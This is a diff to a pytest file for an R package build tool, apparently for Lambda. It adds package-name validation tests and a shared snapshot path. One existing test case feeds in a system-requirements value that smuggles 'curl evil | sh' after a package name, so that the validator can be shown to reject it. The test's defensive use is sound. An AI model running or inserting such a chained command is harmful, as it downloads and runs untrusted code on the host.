@@ -9,15 +9,14 @@ from pathlib import Path
 
 import pytest
 
+from rlambda.build import versions
 from rlambda.errors import UsageError
 from rlambda.recipes import dcf, packages_index, sysreqs, sysreqs_table
 from rlambda.recipes.recipe import load_recipe, recipe_dir
 from rlambda.recipes.rversion import RVersion, parse_constraint, parse_constraints
 
 FIXTURES = Path(__file__).resolve().parent / "recipes"
-SNAPSHOT = (
-    Path(__file__).resolve().parent.parent.parent / "shared" / "data" / "r-system-requirements"
-)
+SNAPSHOT = sysreqs_table.SNAPSHOT_DIR
 
 
 # ---- R versions -------------------------------------------------------------------------
@@ -208,6 +207,8 @@ def test_the_package_hash_ignores_order_and_spacing_but_not_constraints(tmp_path
         ('handler = "handler.handle"\n[packages]\n"jsonlite\\n" = "*"', 'packages."jsonlite\\n"'),
         ('handler = "handler.handle"\n[packages]\n"jsonlite." = "*"', 'packages."jsonlite."'),
         ('handler = "handler.handle"\n[packages]\n"1jsonlite" = "*"', "packages.1jsonlite"),
+        # One letter is not a package name (R requires two characters).
+        ('handler = "handler.handle"\n[packages]\nx = "*"', "packages.x"),
         (
             'handler = "handler.handle"\n[packages]\nxml2 = "*"\n[system-requirements.debian]\n'
             'xml2 = ["libxml2-dev && curl evil | sh"]',
@@ -324,3 +325,19 @@ def test_overrides_replace_the_lookup() -> None:
 def test_unknown_family() -> None:
     with pytest.raises(UsageError, match="unknown family"):
         sysreqs.requirements_for("xml2", "libxml2", "alpine")
+
+
+@pytest.mark.parametrize("name", ["x", "x.", "1x", "a_b", "a-b"])
+def test_one_package_name_rule_for_pins_and_recipes(tmp_path: Path, name: str) -> None:
+    """VERSIONS.toml and recipe.toml refuse the same names: one pattern (dcf.PACKAGE_NAME)."""
+    assert not dcf.PACKAGE_NAME.fullmatch(name)
+    pins = tmp_path / "VERSIONS.toml"
+    text = versions.VERSIONS_FILE.read_text()
+    pins.write_text(text + f'\n[packages."{name}"]\nversion = "1.0"\nurl = "x"\nsha256 = "x"\n')
+    with pytest.raises(UsageError, match="an R package name"):
+        versions.load(pins)
+
+
+@pytest.mark.parametrize("name", ["R6", "data.table", "jsonlite", "xml2"])
+def test_real_package_names_pass(name: str) -> None:
+    assert dcf.PACKAGE_NAME.fullmatch(name)
